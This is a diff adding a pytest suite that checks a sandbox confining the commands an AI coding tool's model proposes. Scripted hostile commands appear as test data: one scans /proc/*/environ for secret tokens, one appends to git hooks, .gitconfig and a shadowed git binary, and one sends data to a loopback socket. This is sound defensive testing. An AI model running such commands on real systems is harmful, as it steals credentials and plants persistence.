@@ -1,0 +1,240 @@
+"""Issue 16, point 1: commands that run repository code are confined (sandbox.py).
+
+Each attack runs as a real `codegen-ci run` process, launched from a real shell that holds a
+secret of its own, with the scripted model over HTTP. Each has a positive control: the same run
+with `CODEGEN_SANDBOX=off` (the documented opt-out) shows the attack working.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import socket
+import subprocess
+import sys
+import threading
+import time
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from codegen_ci.testing.scripted_model import Reply, ScriptedModelServer, call
+from sample_repo import FIX, SampleRepo
+
+pytestmark = pytest.mark.skipif(not Path("/usr/bin/bwrap").exists(), reason="needs bubblewrap")
+
+
+def launch(repo: SampleRepo, server: ScriptedModelServer, spec: Path, *, sandbox: str = "",
+           extra: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:  # fmt: skip
+    """`codegen-ci run` started by a shell that holds LAUNCHER_CANARY (the tool does not: it
+    gets DEPLOY_TOKEN, which the commands' environment never carries)."""
+    env = {**os.environ, "OPENAI_BASE_URL": server.base_url, "OPENAI_API_KEY": "sk-test-0000",
+           "LAUNCHER_CANARY": f"launcher{uuid.uuid4().hex}", **(extra or {})}  # fmt: skip
+    if sandbox:
+        env["CODEGEN_SANDBOX"] = sandbox
+    tool = shlex.join(
+        [
+            sys.executable,
+            "-m",
+            "codegen_ci",
+            "run",
+            str(spec),
+            "--repo",
+            str(repo.path),
+            "--output-dir",
+            str(repo.tmp / f"out-{uuid.uuid4().hex}"),
+        ]
+    )
+    # `; exit $?` keeps the shell alive as the tool's parent, with its environment.
+    script = f"env -u LAUNCHER_CANARY DEPLOY_TOKEN=deploy{uuid.uuid4().hex} {tool}; exit $?"
+    return subprocess.run(["/bin/sh", "-c", script], env=env, capture_output=True, text=True,
+                          timeout=180, check=False)  # fmt: skip
+
+
+def results(server: ScriptedModelServer) -> str:
+    messages = server.requests[-1]["messages"]
+    return "\n".join(m["content"] for m in messages if m["role"] == "tool")
+
+
+PROC_SCAN = (
+    "n=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' "
+    "| grep -c -e '^LAUNCHER_CANARY=' -e '^DEPLOY_TOKEN='); echo found=$n"
+)
+
+
+@pytest.mark.parametrize("sandbox", ["", "off"])
+def test_run_command_cannot_read_other_processes_environment(
+    sample_repo: SampleRepo, model_server: ScriptedModelServer, sandbox: str
+) -> None:
+    model_server.add(Reply(tool_calls=[call("run_command", command=PROC_SCAN), FIX]), Reply("ok"))
+    proc = launch(sample_repo, model_server, sample_repo.write_spec(), sandbox=sandbox)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    seen = results(model_server)
+    if sandbox == "off":  # control: the launching shell and the tool are readable
+        assert "found=0" not in seen and "found=" in seen
+    else:
+        assert "found=0" in seen
+
+
+def write_attempts(repo: SampleRepo, tmp: Path) -> tuple[str, list[Path]]:
+    """A command that appends to files outside the worktree, and those files."""
+    bin_dir = tmp / "bin"
+    bin_dir.mkdir(exist_ok=True)
+    targets = [
+        tmp / "runner" / "github_env",
+        tmp / "home" / ".gitconfig",
+        bin_dir / "git",
+        repo.path / ".git" / "config",
+        repo.path / ".git" / "hooks" / "pre-commit",
+    ]
+    for path in targets:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.touch()
+    command = "; ".join(f"echo pwned >> {shlex.quote(str(p))} && echo WROTE-{i}"
+                        for i, p in enumerate(targets))  # fmt: skip
+    return command, targets
+
+
+@pytest.mark.parametrize("sandbox", ["", "off"])
+def test_run_command_cannot_write_outside_the_worktree(
+    sample_repo: SampleRepo, model_server: ScriptedModelServer, sandbox: str, tmp_path: Path
+) -> None:
+    command, targets = write_attempts(sample_repo, tmp_path)
+    model_server.add(Reply(tool_calls=[call("run_command", command=command), FIX]), Reply("ok"))
+    extra = {"GITHUB_ENV": str(targets[0]), "HOME": str(tmp_path / "home"),
+             "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"}  # fmt: skip
+    proc = launch(sample_repo, model_server, sample_repo.write_spec(), sandbox=sandbox,
+                  extra=extra)  # fmt: skip
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    seen = results(model_server)
+    wrote = [i for i in range(len(targets)) if f"WROTE-{i}" in seen]
+    if sandbox == "off":  # control: every one of them is writable without the sandbox
+        assert wrote == list(range(len(targets)))
+    else:
+        assert wrote == []
+        assert all(b"pwned" not in p.read_bytes() for p in targets)
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[int, list[bytes]]]:
+    """A loopback TCP server that records what connections send."""
+    server = socket.create_server(("127.0.0.1", 0))
+    received: list[bytes] = []
+
+    def serve() -> None:
+        while True:
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                return
+            with conn:
+                received.append(conn.recv(100))
+
+    threading.Thread(target=serve, daemon=True).start()
+    yield server.getsockname()[1], received
+    server.close()
+
+
+def connect(port: int) -> str:
+    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), 3).sendall(b'leak')"
+    return f"{sys.executable} -c {shlex.quote(code)} && echo CONNECTED"
+
+
+@pytest.mark.parametrize(
+    ("sandbox", "network", "reached"),
+    [("", [], False), ("", ["run_command"], True), ("off", [], True)],
+)
+def test_run_command_has_no_network_unless_the_spec_allows_it(
+    sample_repo: SampleRepo, model_server: ScriptedModelServer,
+    listener: tuple[int, list[bytes]], sandbox: str, network: list[str], reached: bool,
+) -> None:  # fmt: skip
+    port, received = listener
+    model_server.add(Reply(tool_calls=[call("run_command", command=connect(port)), FIX]),
+                     Reply("ok"))  # fmt: skip
+    spec = sample_repo.write_spec(validation={"test": [f"{sys.executable} -m pytest -q tests"],
+                                              "network": network})  # fmt: skip
+    proc = launch(sample_repo, model_server, spec, sandbox=sandbox)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    time.sleep(0.2)
+    assert (b"leak" in received) is reached
+    assert ("CONNECTED" in results(model_server)) is reached
+
+
+@pytest.mark.parametrize("sandbox", ["", "off"])
+def test_a_test_command_is_confined_too(
+    sample_repo: SampleRepo, model_server: ScriptedModelServer, sandbox: str, tmp_path: Path,
+    listener: tuple[int, list[bytes]],
+) -> None:  # fmt: skip
+    port, received = listener
+    writes, targets = write_attempts(sample_repo, tmp_path)
+    hostile = f"{PROC_SCAN}; {writes}; {connect(port)}; exit 1"
+    model_server.add(Reply("Nothing to do."))
+    spec = sample_repo.write_spec(validation={"test": [hostile]}, limits={"max_iterations": 1})
+    proc = launch(sample_repo, model_server, spec, sandbox=sandbox)
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    [out_dir] = sample_repo.tmp.glob("out-*")
+    [log] = (out_dir / "logs").glob("round-1-*-test.log")
+    text = log.read_text()
+    if sandbox == "off":  # control
+        assert "found=0" not in text and "WROTE-0" in text and "CONNECTED" in text
+        assert b"leak" in received
+    else:
+        assert "found=0" in text and "WROTE" not in text and "CONNECTED" not in text
+        assert not received and all(b"pwned" not in p.read_bytes() for p in targets)
+
+
+def test_without_bubblewrap_the_run_fails_closed_unless_switched_off(
+    sample_repo: SampleRepo, model_server: ScriptedModelServer, tmp_path: Path
+) -> None:
+    missing = {"CODEGEN_BWRAP": str(tmp_path / "no-such-bwrap")}
+    model_server.add(Reply(tool_calls=[FIX]), Reply("ok"))
+    proc = launch(sample_repo, model_server, sample_repo.write_spec(), extra=missing)
+    assert proc.returncode == 3, proc.stdout + proc.stderr
+    assert "bubblewrap" in proc.stderr and "CODEGEN_SANDBOX=off" in proc.stderr
+    assert "Traceback" not in proc.stderr and not model_server.requests  # no model call
+    [out_dir] = sample_repo.tmp.glob("out-*")
+    report = json.loads((out_dir / "report.json").read_text())
+    assert (report["status"], report["reason"]) == ("error", "sandbox")
+    assert "codegen/" not in sample_repo.git("branch", "--list")  # nothing left behind
+
+    # a bwrap that cannot create namespaces (AppArmor, a default Docker seccomp profile)
+    broken = tmp_path / "bwrap"
+    broken.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\n"
+                      "exit 1\n")  # fmt: skip
+    broken.chmod(0o755)
+    proc = launch(sample_repo, model_server, sample_repo.write_spec(),
+                  extra={"CODEGEN_BWRAP": str(broken)})  # fmt: skip
+    assert proc.returncode == 3 and "No permissions to create new namespace" in proc.stderr
+
+    # the explicit opt-out runs anyway, and says so
+    proc = launch(sample_repo, model_server, sample_repo.write_spec(), sandbox="off",
+                  extra=missing)  # fmt: skip
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    assert "UNCONFINED" in proc.stderr
+
+
+def test_a_confined_command_that_hangs_leaves_no_process_behind(
+    sample_repo: SampleRepo, model_server: ScriptedModelServer
+) -> None:
+    marker = f"codegen-marker-{uuid.uuid4().hex}"
+    sleeper = f"{sys.executable} -c 'import time; time.sleep(60)' {marker}"
+    hanging = f"(trap '' TERM; {sleeper}) & setsid {sleeper} & {sleeper}"
+    model_server.add(Reply("Nothing to do."))
+    spec = sample_repo.write_spec(validation={"test": [hanging], "timeout": 2},
+                                  limits={"max_iterations": 1})  # fmt: skip
+    started = time.monotonic()
+    proc = launch(sample_repo, model_server, spec)
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    assert time.monotonic() - started < 60
+    left = [p for p in Path("/proc").glob("[0-9]*/cmdline") if _holds(p, marker)]
+    assert left == []
+
+
+def _holds(cmdline: Path, marker: str) -> bool:
+    try:
+        return marker.encode() in cmdline.read_bytes()
+    except OSError:
+        return False
